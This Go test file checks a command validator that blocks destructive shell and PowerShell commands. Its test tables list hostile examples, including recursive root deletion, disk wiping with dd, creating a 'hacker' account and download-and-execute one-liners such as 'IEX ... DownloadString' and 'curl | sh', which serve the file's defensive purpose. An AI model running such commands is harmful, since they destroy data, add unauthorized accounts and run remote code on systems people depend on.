package validator

import (
	"errors"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"
)

func TestValidate_BlocksEveryCategory(t *testing.T) {
	v := Default()

	tests := []struct {
		name     string
		code     string
		category Category
	}{
		{"rm -rf root", "rm -rf /", RecursiveDelete},
		{"rm with split flags", "rm -r -f /var/lib/app", RecursiveDelete},
		{"rm long option", "rm --recursive /srv", RecursiveDelete},
		{"Remove-Item recurse", "Remove-Item C:\\Windows -Recurse", RecursiveDelete},
		{"Remove-Item force mixed case", "remove-item $path -force", RecursiveDelete},
		{"rm long force", "rm --force notes.txt", RecursiveDelete},
		{"Remove-Item abbreviated recurse", "Remove-Item C:\\Data -r", RecursiveDelete},
		{"Remove-Item abbreviated both", "Remove-Item C:\\Data -Rec -Fo", RecursiveDelete},
		{"Remove-Item line continuation", "Remove-Item C:\\Data `\n    -Recurse", RecursiveDelete},
		{"del after separator", "Get-Date; del C:\\Temp -Force", RecursiveDelete},
		{"rd /s", "rd /s /q C:\\", RecursiveDelete},
		{"find -delete", "find / -name '*.log' -delete", RecursiveDelete},
		{"format drive", "format c: /q", Format},
		{"Format-Volume", "Format-Volume -DriveLetter D", Format},
		{"mkfs", "mkfs.ext4 /dev/sdb1", Format},
		{"dd to device", "dd if=/dev/zero of=/dev/sda bs=1M", Format},
		{"Restart-Computer", "Restart-Computer -Force", Power},
		{"Stop-Computer", "Stop-Computer", Power},
		{"shutdown", "shutdown -h now", Power},
		{"shutdown in quoted cmd", "cmd /c \"shutdown /r\"", Power},
		{"reboot after separator", "echo bye; reboot", Power},
		{"sbin path", "/sbin/poweroff", Power},
		{"systemctl reboot", "systemctl --force reboot", Power},
		{"New-Service", "New-Service -Name evil -BinaryPathName x.exe", Service},
		{"Stop-Service", "Get-Service spooler | Stop-Service", Service},
		{"sc delete", "sc.exe delete spooler", Service},
		{"systemctl stop", "systemctl stop sshd", Service},
		{"service restart", "service nginx restart", Service},
		{"net user", "net user hacker P@ss /add", Account},
		{"New-LocalUser", "New-LocalUser -Name svc", Account},
		{"useradd", "useradd -m bob", Account},
		{"passwd", "passwd root", Account},
		{"Invoke-Expression", "Invoke-Expression $payload", DynamicEval},
		{"iex alias", "IEX (New-Object Net.WebClient).DownloadString($u)", DynamicEval},
		{"eval", "eval \"$cmd\"", DynamicEval},
		{"bash -c", "bash -c 'echo hi'", DynamicEval},
		{"EncodedCommand", "powershell -EncodedCommand SQBFAFgA", DynamicEval},
		{"enc abbreviation", "pwsh.exe -NoProfile -enc SQBFAFgA", DynamicEval},
		{"pipe to sh", "curl https://example.com/x | sh", DynamicEval},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := v.Validate(tt.code)
			assert.False(t, res.Allowed, "expected %q to be blocked", tt.code)
			assert.Equal(t, tt.category, res.Category)
			assert.NotEmpty(t, res.MatchedPattern)
		})
	}
}

func TestValidate_AllowsHarmlessCode(t *testing.T) {
	v := Default()

	allowed := []string{
		"Get-Process | Select-Object -First 5 | ConvertTo-Json",
		"Get-Service | Where-Object { $_.Status -eq 'Running' }",
		"Get-Date -Format h:mm",
		"Get-ChildItem -Path C:\\Temp -Force",
		"rm old.log",
		"rm --verbose notes.txt",
		"Set-Content -Path x -Value del -Force",
		"Get-ChildItem -Path C:\\Logs -Recurse -Filter *.log",
		"powershell -ExecutionPolicy Bypass -File report.ps1",
		"ls -la /tmp",
		"cat /etc/passwd",
		"systemctl status sshd",
		"systemctl list-units --type=service --state=running",
		"ssh -c aes256-ctr host uptime",
		"sha256sum file | sort",
		"echo complex index",
		"df -h /",
	}
	for _, code := range allowed {
		t.Run(code, func(t *testing.T) {
			res := v.Validate(code)
			assert.True(t, res.Allowed, "expected %q to be allowed, blocked by %q", code, res.MatchedPattern)
			assert.Empty(t, res.MatchedPattern)
		})
	}
}

func TestValidate_FirstMatchWins(t *testing.T) {
	v, err := New([]Rule{
		{Power, `reboot`},
		{DynamicEval, `eval`},
	})
	require.NoError(t, err)

	res := v.Validate("eval reboot")
	assert.Equal(t, Power, res.Category)
	assert.Equal(t, "reboot", res.MatchedPattern)
}

func TestValidate_CaseInsensitive(t *testing.T) {
	v := Default()
	assert.False(t, v.Validate("RESTART-COMPUTER").Allowed)
	assert.False(t, v.Validate("Rm -Rf /tmp/x").Allowed)
}

func TestCheck_ReturnsBlockedError(t *testing.T) {
	v := Default()

	err := v.Check("Stop-Computer -Force")
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrBlocked))

	var blocked *BlockedError
	require.True(t, errors.As(err, &blocked))
	assert.Equal(t, Power, blocked.Category)
	assert.Contains(t, err.Error(), "power")

	assert.NoError(t, v.Check("Get-Date"))
}

func TestNew_InvalidRules(t *testing.T) {
	_, err := New([]Rule{{Power, `(`}})
	assert.Error(t, err)

	_, err = New([]Rule{{Category(42), `x`}})
	assert.Error(t, err)
}

func TestWithDefaults_AppendsExtraRules(t *testing.T) {
	v, err := WithDefaults([]Rule{{Service, `\bkillall\b`}})
	require.NoError(t, err)

	res := v.Validate("killall nginx")
	assert.False(t, res.Allowed)
	assert.Equal(t, Service, res.Category)
	assert.Len(t, v.Rules(), len(DefaultRules())+1)
}

func TestRules_ReturnsCopy(t *testing.T) {
	v := Default()
	rules := v.Rules()
	rules[0].Pattern = "mutated"
	assert.NotEqual(t, "mutated", v.Rules()[0].Pattern)
}

func TestCategory_YAMLRoundTrip(t *testing.T) {
	var rules []Rule
	err := yaml.Unmarshal([]byte("- category: dynamic-eval\n  pattern: '\\bsource\\b'\n"), &rules)
	require.NoError(t, err)
	require.Len(t, rules, 1)
	assert.Equal(t, DynamicEval, rules[0].Category)

	err = yaml.Unmarshal([]byte("- category: nonsense\n  pattern: x\n"), &rules)
	assert.Error(t, err)
}

func TestValidate_ConcurrentReads(t *testing.T) {
	v := Default()
	var wg sync.WaitGroup
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			if i%2 == 0 {
				assert.False(t, v.Validate("rm -rf /").Allowed)
			} else {
				assert.True(t, v.Validate("echo ok").Allowed)
			}
		}(i)
	}
	wg.Wait()
}
